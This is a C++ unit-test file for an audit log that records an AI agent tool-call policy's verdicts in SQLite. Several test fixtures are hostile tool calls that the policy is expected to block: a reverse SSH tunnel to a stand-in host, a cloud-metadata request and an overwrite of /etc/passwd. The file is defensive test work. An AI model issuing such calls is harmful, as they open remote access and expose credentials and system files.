#include "rewardguard/audit/sqlite_sink.h"

#include <sqlite3.h>

#include <atomic>
#include <chrono>
#include <filesystem>
#include <limits>
#include <thread>

#include "gtest/gtest.h"
#include "rewardguard/audit/internal/db.h"
#include "rewardguard/audit/replay.h"
#include "rewardguard/eval/evaluator.h"
#include "test_util.h"

namespace rewardguard {
namespace {

using std::chrono::milliseconds;
using std::chrono::steady_clock;
using testing::SampleRecord;
using testing::TempDir;

RunInfo TestRun(std::string name) {
  RunInfo run;
  run.name = std::move(name);
  run.policy_name = "test-policy";
  run.policy_source = "<test>";
  run.policy_text = "abc";
  return run;
}

// Another connection holding the write lock, as a second trainer might.
class ExclusiveLock {
 public:
  explicit ExclusiveLock(const std::string& path) {
    EXPECT_EQ(sqlite3_open(path.c_str(), &db_), SQLITE_OK);
    EXPECT_EQ(sqlite3_exec(db_, "BEGIN EXCLUSIVE", nullptr, nullptr, nullptr), SQLITE_OK);
  }
  void Release() {
    if (db_ == nullptr) return;
    sqlite3_exec(db_, "COMMIT", nullptr, nullptr, nullptr);
    sqlite3_close(db_);
    db_ = nullptr;
  }
  ~ExclusiveLock() { Release(); }

 private:
  sqlite3* db_ = nullptr;
};

TEST(Sha256, KnownVectors) {
  EXPECT_EQ(audit_internal::Sha256Hex(""),
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
  EXPECT_EQ(audit_internal::Sha256Hex("abc"),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
  EXPECT_EQ(audit_internal::Sha256Hex(
                "abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"),
            "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
}

TEST(SqliteSink, RoundTrip) {
  TempDir dir;
  const std::string path = dir.File("audit.db");
  std::vector<DecisionRecord> written;
  int64_t run_id = 0;
  {
    auto sink = SqliteSink::Open(path, TestRun("round-trip"));
    ASSERT_TRUE(sink.ok()) << sink.status();
    run_id = (*sink)->run_id();
    for (int i = 0; i < 50; ++i) {
      written.push_back(SampleRecord(i));
      ASSERT_TRUE((*sink)->Write(written.back()).ok());
    }
    ASSERT_TRUE((*sink)->Close().ok());
    EXPECT_EQ((*sink)->committed(), 50);
    EXPECT_EQ((*sink)->discarded(), 0);
  }
  auto reader = AuditReader::Open(path);
  ASSERT_TRUE(reader.ok()) << reader.status();
  auto read = reader->ReadRecords(run_id);
  ASSERT_TRUE(read.ok()) << read.status();
  ASSERT_EQ(read->size(), written.size());
  for (size_t i = 0; i < written.size(); ++i) {
    written[i].run_id = run_id;
    EXPECT_EQ((*read)[i], written[i]) << "record " << i;
  }
  auto runs = reader->Runs();
  ASSERT_TRUE(runs.ok());
  ASSERT_EQ(runs->size(), 1u);
  const RunRow& run = runs->front();
  EXPECT_EQ(run.name, "round-trip");
  EXPECT_EQ(run.policy_name, "test-policy");
  EXPECT_EQ(run.policy_text, "abc");
  EXPECT_EQ(run.policy_sha256, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
  EXPECT_GT(run.started_at_us, 0);
  ASSERT_TRUE(run.ended_at_us.has_value());
  EXPECT_GE(*run.ended_at_us, run.started_at_us);
  EXPECT_EQ(run.events, 50);
  EXPECT_EQ(run.violations, 10);
  auto ids = reader->FindRuns("round-trip");
  ASSERT_TRUE(ids.ok());
  EXPECT_EQ(*ids, std::vector<int64_t>{run_id});
  EXPECT_EQ(reader->FindRuns(std::to_string(run_id)).value(), std::vector<int64_t>{run_id});
  EXPECT_EQ(reader->FindRuns("nope").status().code(), absl::StatusCode::kNotFound);
}

TEST(SqliteSink, RecordsVerdictsOfARealPolicy) {
  TempDir dir;
  PolicyPtr policy = *LoadBuiltinPolicy("coding-sandbox");
  Evaluator evaluator(policy, 1);
  auto sink = SqliteSink::Open(dir.File("a.db"), RunInfo::ForPolicy("real", *policy));
  ASSERT_TRUE(sink.ok()) << sink.status();
  const std::string args = R"({"url": "http://169.254.169.254/latest/meta-data/"})";
  Verdict v = evaluator.Evaluate(0, ToolCall{"http_get", args});
  ASSERT_EQ(v.action, Action::kBlock);
  DecisionRecord r = MakeRecord(*policy, v,
                                {.env = 0, .episode = 2, .step = 7, .tool = "http_get",
                                 .arguments = args, .reward_before = 1.0, .reward_after = -4.0});
  ASSERT_TRUE((*sink)->Write(r).ok());
  ASSERT_TRUE((*sink)->Close().ok());
  auto reader = AuditReader::Open(dir.File("a.db"));
  auto read = reader->ReadRecords(std::nullopt);
  ASSERT_TRUE(read.ok()) << read.status();
  ASSERT_EQ(read->size(), 1u);
  const DecisionRecord& got = read->front();
  EXPECT_EQ(got.tool, "http_get");
  EXPECT_EQ(got.arguments, args);
  EXPECT_EQ(got.action, Action::kBlock);
  EXPECT_EQ(got.penalty, v.penalty);
  ASSERT_FALSE(got.rules.empty());
  bool internal = false;
  for (const FiredRule& rule : got.rules)
    if (rule.id == "internal-network") internal = rule.action == Action::kBlock;
  EXPECT_TRUE(internal);
  EXPECT_EQ(got.reason, v.reason);
  EXPECT_EQ(got.reward_after, -4.0);
  EXPECT_EQ(reader->Runs()->front().policy_sha256,
            audit_internal::Sha256Hex(policy->source_text()));
}

// A writer stalled on a locked database: the producer blocks on the full
// queue instead of dropping, and every record lands once the lock goes.
TEST(SqliteSink, BackPressureBlocksAndDropsNothing) {
  TempDir dir;
  const std::string path = dir.File("bp.db");
  SinkOptions options;
  options.queue_capacity = 4;
  options.max_batch = 2;
  options.busy_timeout_ms = 10000;
  auto sink = SqliteSink::Open(path, TestRun("bp"), options);
  ASSERT_TRUE(sink.ok()) << sink.status();
  ExclusiveLock lock(path);
  constexpr int kRecords = 300;
  std::atomic<int> written{0};
  std::thread producer([&] {
    for (int i = 0; i < kRecords; ++i) {
      ASSERT_TRUE((*sink)->Write(SampleRecord(i)).ok());
      written.fetch_add(1);
    }
  });
  std::this_thread::sleep_for(milliseconds(300));
  // Blocked, not dropping: the queue (4), the batch the writer holds while the
  // database is locked, and the record in flight. The exact count depends on
  // scheduling (9 was seen under load), so bound it well below the 300 that
  // would mean no back-pressure at all.
  EXPECT_LE(written.load(), 16);
  lock.Release();
  producer.join();
  EXPECT_TRUE((*sink)->Flush().ok());
  EXPECT_EQ((*sink)->committed(), kRecords);
  EXPECT_EQ((*sink)->discarded(), 0);
  ASSERT_TRUE((*sink)->Close().ok());
  auto read = AuditReader::Open(path)->ReadRecords(std::nullopt);
  ASSERT_TRUE(read.ok());
  ASSERT_EQ(read->size(), static_cast<size_t>(kRecords));
  for (int i = 0; i < kRecords; ++i) EXPECT_EQ((*read)[i].step, i);
}

TEST(SqliteSink, LockedDatabaseIsAnErrorNotAHang) {
  TempDir dir;
  const std::string path = dir.File("locked.db");
  SinkOptions options;
  options.busy_timeout_ms = 200;
  auto sink = SqliteSink::Open(path, TestRun("locked"), options);
  ASSERT_TRUE(sink.ok()) << sink.status();
  ExclusiveLock lock(path);

  auto start = steady_clock::now();
  ASSERT_TRUE((*sink)->Write(SampleRecord(1)).ok());
  absl::Status flushed = (*sink)->Flush();
  EXPECT_LT(steady_clock::now() - start, milliseconds(3000));
  EXPECT_EQ(flushed.code(), absl::StatusCode::kUnavailable) << flushed;
  EXPECT_NE(flushed.message().find("locked"), std::string_view::npos) << flushed;
  EXPECT_NE(flushed.message().find(path), std::string_view::npos) << flushed;
  // Sticky: the next write says so at once, and the record is counted.
  EXPECT_EQ((*sink)->Write(SampleRecord(2)).code(), absl::StatusCode::kUnavailable);
  EXPECT_EQ((*sink)->discarded(), 2);
  EXPECT_FALSE((*sink)->Close().ok());

  // Opening a second run while the lock is held fails the same way.
  start = steady_clock::now();
  auto second = SqliteSink::Open(path, TestRun("second"), options);
  EXPECT_LT(steady_clock::now() - start, milliseconds(3000));
  ASSERT_FALSE(second.ok());
  EXPECT_EQ(second.status().code(), absl::StatusCode::kUnavailable) << second.status();
}

// The disk filling up, simulated with PRAGMA max_page_count.
TEST(SqliteSink, FullDiskIsAClearError) {
  TempDir dir;
  const std::string path = dir.File("full.db");
  SinkOptions options;
  options.max_page_count = 40;  // the schema takes ~10 pages of 64 KiB
  auto sink = SqliteSink::Open(path, TestRun("full"), options);
  ASSERT_TRUE(sink.ok()) << sink.status();
  absl::Status status;
  for (int i = 0; i < 5000 && status.ok(); ++i) {
    DecisionRecord r = SampleRecord(i);
    r.arguments.assign(1000, 'x');
    status = (*sink)->Write(std::move(r));
  }
  if (status.ok()) status = (*sink)->Flush();
  EXPECT_EQ(status.code(), absl::StatusCode::kResourceExhausted) << status;
  EXPECT_NE(status.message().find("full"), std::string_view::npos) << status;
  EXPECT_FALSE((*sink)->Close().ok());
  // What was committed before the disk filled is intact.
  auto reader = AuditReader::Open(path);
  ASSERT_TRUE(reader.ok()) << reader.status();
  auto read = reader->ReadRecords(std::nullopt);
  ASSERT_TRUE(read.ok()) << read.status();
  for (size_t i = 0; i < read->size(); ++i) EXPECT_EQ((*read)[i].step, static_cast<int64_t>(i));
}

TEST(SqliteSink, WriteBatchAndClosedSink) {
  TempDir dir;
  auto sink = SqliteSink::Open(dir.File("b.db"), TestRun("batch"));
  ASSERT_TRUE(sink.ok());
  std::vector<DecisionRecord> batch;
  for (int i = 0; i < 10; ++i) batch.push_back(SampleRecord(i));
  ASSERT_TRUE((*sink)->WriteBatch(absl::MakeSpan(batch)).ok());
  ASSERT_TRUE((*sink)->Close().ok());
  EXPECT_TRUE((*sink)->Close().ok());  // idempotent
  EXPECT_EQ((*sink)->Write(SampleRecord(0)).code(), absl::StatusCode::kFailedPrecondition);
  EXPECT_EQ((*sink)->committed(), 10);
}

// The step path: a step's verdicts in an EventBatch come back as the records
// MakeRecord would have made from them.
TEST(SqliteSink, EventBatchRoundTrip) {
  TempDir dir;
  const std::string path = dir.File("batch.db");
  PolicyPtr policy = *LoadBuiltinPolicy("coding-sandbox");
  Evaluator evaluator(policy, 4);
  const std::vector<ToolCall> calls = {
      {"read_file", R"({"path": "src/a.py"})"},
      {"shell", R"({"command": "ssh -fNR 9000:localhost:22 a@203.0.113.5"})"},
      {"http_get", R"({"url": "http://169.254.169.254/latest/meta-data/"})"},
      {"write_file", R"({"path": "/etc/passwd", "content": "x"})"},
      {"launch_rocket", "{}"},
      {"shell", "not json at all \"quoted\" \t\n"},
  };
  auto sink = SqliteSink::Open(path, RunInfo::ForPolicy("batch", *policy));
  ASSERT_TRUE(sink.ok()) << sink.status();
  EventBatch batch(policy);
  std::vector<DecisionRecord> expected;
  for (int step = 0; step < 3; ++step) {
    for (size_t i = 0; i < calls.size(); ++i) {
      Verdict v = evaluator.Evaluate(static_cast<int>(i % 4), calls[i]);
      RecordContext context{.env = static_cast<int64_t>(i % 4), .episode = 7, .step = step,
                            .tool = calls[i].tool, .arguments = calls[i].arguments};
      if (i % 2 == 0) {
        context.reward_before = 1.25 * static_cast<double>(i);
        context.reward_after = context.reward_before.value() - v.penalty;
      }
      if (i == 3) context.timestamp_us = 1700000000000000 + step;
      batch.Add(v, context);
      expected.push_back(MakeRecord(*policy, v, context));
    }
    ASSERT_EQ(batch.size(), calls.size());
    for (size_t i = 0; i < batch.size(); ++i) {
      DecisionRecord r = batch.Record(i);
      DecisionRecord& e = expected[expected.size() - calls.size() + i];
      if (i != 3) e.timestamp_us = r.timestamp_us;  // "now": one clock read per batch
      EXPECT_EQ(r, e) << "step " << step << " event " << i;
    }
    ASSERT_TRUE((*sink)->WriteBatch(&batch).ok());
    EXPECT_TRUE(batch.empty());
    EXPECT_EQ(&batch.policy(), policy.get());
  }
  ASSERT_TRUE((*sink)->Close().ok());
  EXPECT_EQ((*sink)->committed(), static_cast<int64_t>(expected.size()));
  // Closed: the batch is refused and emptied.
  batch.Add(Verdict{}, {.tool = "x"});
  EXPECT_EQ((*sink)->WriteBatch(&batch).code(), absl::StatusCode::kFailedPrecondition);
  EXPECT_TRUE(batch.empty());

  auto reader = AuditReader::Open(path);
  ASSERT_TRUE(reader.ok()) << reader.status();
  auto read = reader->ReadRecords(std::nullopt);
  ASSERT_TRUE(read.ok()) << read.status();
  ASSERT_EQ(read->size(), expected.size());
  int violations = 0;
  for (size_t i = 0; i < expected.size(); ++i) {
    expected[i].run_id = (*sink)->run_id();
    EXPECT_EQ((*read)[i], expected[i]) << "record " << i;
    violations += expected[i].action != Action::kAllow;
  }
  EXPECT_GT(violations, 0);
  EXPECT_EQ(reader->Runs()->front().violations, violations);
}

// Batches of different policies (a policy reloaded mid-run) keep their own
// rule and capability names, however the writer caches them.
TEST(SqliteSink, EventBatchesOfSeveralPolicies) {
  TempDir dir;
  const std::string path = dir.File("policies.db");
  auto sink = SqliteSink::Open(path, TestRun("policies"));
  ASSERT_TRUE(sink.ok()) << sink.status();
  std::vector<DecisionRecord> expected;
  const ToolCall call{"shell", R"({"command": "ssh -fNR 9000:localhost:22 a@203.0.113.5"})"};
  for (int round = 0; round < 4; ++round) {
    PolicyPtr policy = *LoadBuiltinPolicy("coding-sandbox");  // a new object each time
    Evaluator evaluator(policy, 1);
    EventBatch batch(policy);
    Verdict v = evaluator.Evaluate(0, call);
    batch.Add(v, {.step = round, .tool = call.tool, .arguments = call.arguments,
                  .timestamp_us = 1700000000000000 + round});
    expected.push_back(batch.Record(0));
    ASSERT_TRUE((*sink)->WriteBatch(&batch).ok());
  }  // each policy is released here; the sink keeps what it still needs
  ASSERT_TRUE((*sink)->Close().ok());
  auto read = AuditReader::Open(path)->ReadRecords(std::nullopt);
  ASSERT_TRUE(read.ok()) << read.status();
  ASSERT_EQ(read->size(), expected.size());
  for (size_t i = 0; i < expected.size(); ++i) {
    expected[i].run_id = (*sink)->run_id();
    EXPECT_EQ((*read)[i], expected[i]) << "record " << i;
  }
}

// Texts JSON cannot hold as they are (bytes that are not UTF-8, NUL, control
// characters) and numbers it cannot (NaN, infinities) survive the blocks.
TEST(SqliteSink, OddTextsAndNumbersRoundTrip) {
  TempDir dir;
  const std::string path = dir.File("odd.db");
  auto sink = SqliteSink::Open(path, TestRun("odd"));
  ASSERT_TRUE(sink.ok()) << sink.status();
  std::vector<DecisionRecord> written;
  const std::string odd[] = {
      std::string("bad \xff\xfe utf-8", 12), std::string("nul\0byte", 8), "ctl \x01\x1f\x7f",
      "quotes \" and \\ backslash", "h\xc3\xa9llo \xe2\x82\xac", "", std::string(5000, 'y')};
  for (size_t i = 0; i < std::size(odd); ++i) {
    DecisionRecord r = SampleRecord(static_cast<int64_t>(i));
    r.arguments = odd[i];
    r.tool = odd[(i + 1) % std::size(odd)];
    r.reason = odd[(i + 2) % std::size(odd)];
    r.capabilities.push_back(odd[(i + 3) % std::size(odd)]);
    r.rules.push_back({odd[(i + 4) % std::size(odd)], Action::kWarn});
    r.penalty = i == 0 ? 0.1f : r.penalty;
    r.reward_before = i == 1 ? std::numeric_limits<double>::infinity() : 0.1;
    r.reward_after = i == 1 ? -std::numeric_limits<double>::infinity() : 1e300;
    written.push_back(r);
  }
  DecisionRecord nan = SampleRecord(99);
  nan.reward_before = std::numeric_limits<double>::quiet_NaN();
  written.push_back(nan);
  ASSERT_TRUE((*sink)->WriteBatch(absl::MakeSpan(written)).ok());
  ASSERT_TRUE((*sink)->Close().ok());
  auto read = AuditReader::Open(path)->ReadRecords(std::nullopt);
  ASSERT_TRUE(read.ok()) << read.status();
  ASSERT_EQ(read->size(), std::size(odd) + 1);
  for (size_t i = 0; i < std::size(odd); ++i) {
    DecisionRecord expected = SampleRecord(static_cast<int64_t>(i));
    expected.run_id = (*sink)->run_id();
    expected.arguments = odd[i];
    expected.tool = odd[(i + 1) % std::size(odd)];
    expected.reason = odd[(i + 2) % std::size(odd)];
    expected.capabilities.push_back(odd[(i + 3) % std::size(odd)]);
    expected.rules.push_back({odd[(i + 4) % std::size(odd)], Action::kWarn});
    expected.penalty = i == 0 ? 0.1f : expected.penalty;
    expected.reward_before = i == 1 ? std::numeric_limits<double>::infinity() : 0.1;
    expected.reward_after = i == 1 ? -std::numeric_limits<double>::infinity() : 1e300;
    EXPECT_EQ((*read)[i], expected) << "record " << i;
  }
  EXPECT_FALSE(read->back().reward_before.has_value());  // NaN reads back as unknown, as REAL did
}

// The views give every event, rule, cost and capability one row each, as
// the version 1 tables did, for ad-hoc SQL.
TEST(SqliteSink, ViewsUnpackTheBlocks) {
  TempDir dir;
  const std::string path = dir.File("views.db");
  SinkOptions options;
  options.max_batch = 7;  // several blocks
  auto sink = SqliteSink::Open(path, TestRun("views"), options);
  ASSERT_TRUE(sink.ok()) << sink.status();
  for (int i = 0; i < 50; ++i) ASSERT_TRUE((*sink)->Write(SampleRecord(i)).ok());
  ASSERT_TRUE((*sink)->Close().ok());
  sqlite3* db = nullptr;
  ASSERT_EQ(sqlite3_open_v2(path.c_str(), &db, SQLITE_OPEN_READONLY, nullptr), SQLITE_OK);
  auto one = [&](const char* sql) {
    sqlite3_stmt* stmt = nullptr;
    EXPECT_EQ(sqlite3_prepare_v2(db, sql, -1, &stmt, nullptr), SQLITE_OK) << sqlite3_errmsg(db);
    std::string out;
    if (sqlite3_step(stmt) == SQLITE_ROW) {
      const unsigned char* text = sqlite3_column_text(stmt, 0);
      out = text ? reinterpret_cast<const char*>(text) : "NULL";
    }
    sqlite3_finalize(stmt);
    return out;
  };
  EXPECT_EQ(one("SELECT count(*) FROM event_blocks"), "8");
  EXPECT_EQ(one("SELECT count(*) FROM events"), "50");
  EXPECT_EQ(one("SELECT group_concat(step) FROM (SELECT step FROM events ORDER BY id LIMIT 9)"),
            "0,1,2,3,4,5,6,7,8");
  EXPECT_EQ(one("SELECT arguments FROM events WHERE step = 12"), "{\"command\":\"echo 12\"}");
  EXPECT_EQ(one("SELECT kind || ' ' || tool || ' ' || action || ' ' || penalty || ' ' || reason "
                "FROM events WHERE step = 15"),
            "observation sandbox block 1.5 `egress-allowlist`: blocked");
  EXPECT_EQ(one("SELECT reason || '|' || costs || '|' || ifnull(reward_before, 'null') || '|' || ts_us "
                "FROM events WHERE step = 1"),
            "|[]|null|1700000000000001");
  EXPECT_EQ(one("SELECT count(*) FROM violations"), "10");
  EXPECT_EQ(one("SELECT count(*) FROM event_rules WHERE rule = 'run-programs' AND action = 'allow'"),
            "50");
  EXPECT_EQ(one("SELECT count(*) FROM flagged_rules WHERE rule = 'egress-allowlist'"), "10");
  EXPECT_EQ(one("SELECT sum(cost) FROM event_costs WHERE category = 'network'"), "10.0");
  EXPECT_EQ(one("SELECT sum(cost) FROM flagged_costs WHERE category = 'privilege'"), "5.0");
  EXPECT_EQ(one("SELECT count(*) FROM event_capabilities WHERE capability = 'shell.exec'"), "50");
  EXPECT_EQ(one("SELECT sum(events) FROM block_counts WHERE kind = 'tool' AND name = 'sandbox'"),
            "17");
  // Violations point at their event.
  EXPECT_EQ(one("SELECT count(*) FROM violations v JOIN events e ON e.id = v.event_id "
                "WHERE e.step = v.step AND e.arguments = v.arguments"),
            "10");
  sqlite3_close(db);
}

// Events are committed without a Flush too, within about the commit interval.
TEST(SqliteSink, CommitsWithoutFlush) {
  TempDir dir;
  auto sink = SqliteSink::Open(dir.File("lazy.db"), TestRun("lazy"));
  ASSERT_TRUE(sink.ok());
  ASSERT_TRUE((*sink)->Write(SampleRecord(1)).ok());
  const auto deadline = steady_clock::now() + milliseconds(5000);
  while ((*sink)->committed() == 0 && steady_clock::now() < deadline)
    std::this_thread::sleep_for(milliseconds(10));
  EXPECT_EQ((*sink)->committed(), 1);
  ASSERT_TRUE((*sink)->Close().ok());
}

// RequestFlush commits what was written without waiting for it; with a long
// commit interval nothing else would.
TEST(SqliteSink, RequestFlushCommitsWithoutWaiting) {
  TempDir dir;
  SinkOptions options;
  options.commit_interval = std::chrono::hours(1);
  auto sink = SqliteSink::Open(dir.File("async.db"), TestRun("async"), options);
  ASSERT_TRUE(sink.ok()) << sink.status();
  for (int i = 0; i < 10; ++i) ASSERT_TRUE((*sink)->Write(SampleRecord(i)).ok());
  std::this_thread::sleep_for(milliseconds(200));
  EXPECT_EQ((*sink)->committed(), 0);
  ASSERT_TRUE((*sink)->RequestFlush().ok());
  const auto deadline = steady_clock::now() + milliseconds(5000);
  while ((*sink)->committed() < 10 && steady_clock::now() < deadline)
    std::this_thread::sleep_for(milliseconds(5));
  EXPECT_EQ((*sink)->committed(), 10);
  ASSERT_TRUE((*sink)->Close().ok());
  EXPECT_TRUE((*sink)->RequestFlush().ok());  // as Flush: everything is committed
}

// Requests come nearly every step when episodes end at different steps:
// they are coalesced into a commit every ~20 ms, not one each.
TEST(SqliteSink, RequestedCommitsAreCoalesced) {
  TempDir dir;
  const std::string path = dir.File("requests.db");
  SinkOptions options;
  options.commit_interval = std::chrono::hours(1);
  auto sink = SqliteSink::Open(path, TestRun("requests"), options);
  ASSERT_TRUE(sink.ok()) << sink.status();
  constexpr int kRequests = 200;
  const auto start = steady_clock::now();
  for (int i = 0; i < kRequests; ++i) {
    ASSERT_TRUE((*sink)->Write(SampleRecord(i)).ok());
    ASSERT_TRUE((*sink)->RequestFlush().ok());
    std::this_thread::sleep_for(std::chrono::microseconds(500));
  }
  const auto elapsed = std::chrono::duration_cast<milliseconds>(steady_clock::now() - start);
  const auto deadline = steady_clock::now() + milliseconds(5000);
  while ((*sink)->committed() < kRequests && steady_clock::now() < deadline)
    std::this_thread::sleep_for(milliseconds(5));
  EXPECT_EQ((*sink)->committed(), kRequests);
  ASSERT_TRUE((*sink)->Close().ok());
  sqlite3* db = nullptr;
  ASSERT_EQ(sqlite3_open_v2(path.c_str(), &db, SQLITE_OPEN_READONLY, nullptr), SQLITE_OK);
  sqlite3_stmt* stmt = nullptr;
  ASSERT_EQ(sqlite3_prepare_v2(db, "SELECT count(*) FROM event_blocks", -1, &stmt, nullptr),
            SQLITE_OK);
  ASSERT_EQ(sqlite3_step(stmt), SQLITE_ROW);
  const int64_t blocks = sqlite3_column_int64(stmt, 0);
  sqlite3_finalize(stmt);
  sqlite3_close(db);
  // One commit per 20 ms of the loop, and one or two at its edges.
  EXPECT_LE(blocks, elapsed.count() / 20 + 3) << elapsed.count() << " ms";
  EXPECT_GE(blocks, 1);
}

// The writer copies the WAL back into the database as it grows (not only at
// Close), and every event survives it.
TEST(SqliteSink, CheckpointsAsTheWalGrows) {
  TempDir dir;
  const std::string path = dir.File("big.db");
  auto sink = SqliteSink::Open(path, TestRun("big"));
  ASSERT_TRUE(sink.ok()) << sink.status();
  constexpr int kEvents = 60000;
  const std::string padding(400, 'x');  // ~40 MB of events: several checkpoints
  for (int i = 0; i < kEvents; ++i) {
    DecisionRecord r = SampleRecord(i);
    r.arguments += padding;
    ASSERT_TRUE((*sink)->Write(std::move(r)).ok());
    if (i % 10000 == 9999) {
      ASSERT_TRUE((*sink)->Flush().ok());
    }
  }
  ASSERT_TRUE((*sink)->Flush().ok());
  // Before Close: the database file itself holds most of the data (the
  // writer checkpoints after the commit Flush waited for: give it time), and
  // the WAL stayed near the checkpoint size (16 MiB) plus one block.
  const auto deadline = steady_clock::now() + milliseconds(10000);
  while (std::filesystem::file_size(path) <= (uintmax_t{20} << 20) && steady_clock::now() < deadline)
    std::this_thread::sleep_for(milliseconds(10));
  EXPECT_GT(std::filesystem::file_size(path), uintmax_t{20} << 20);
  EXPECT_LT(std::filesystem::file_size(path + "-wal"), uintmax_t{48} << 20);
  ASSERT_TRUE((*sink)->Close().ok());
  auto reader = AuditReader::Open(path);
  ASSERT_TRUE(reader.ok()) << reader.status();
  auto records = reader->ReadRecords((*sink)->run_id());
  ASSERT_TRUE(records.ok()) << records.status();
  ASSERT_EQ(records->size(), static_cast<size_t>(kEvents));
  EXPECT_EQ((*records)[kEvents - 1].step, kEvents - 1);
  EXPECT_EQ((*records)[kEvents - 1].arguments, SampleRecord(kEvents - 1).arguments + padding);
}

TEST(SqliteSink, RejectsAFileThatIsNotADatabase) {
  TempDir dir;
  const std::string path = dir.File("not.db");
  {
    std::FILE* f = std::fopen(path.c_str(), "w");
    std::fputs("this is not sqlite, just a text file that is long enough to have a header....",
               f);
    std::fclose(f);
  }
  auto sink = SqliteSink::Open(path, TestRun("x"));
  ASSERT_FALSE(sink.ok());
  EXPECT_EQ(sink.status().code(), absl::StatusCode::kDataLoss) << sink.status();
  EXPECT_EQ(AuditReader::Open(dir.File("missing.db")).status().code(),
            absl::StatusCode::kNotFound);
}

}  // namespace
}  // namespace rewardguard
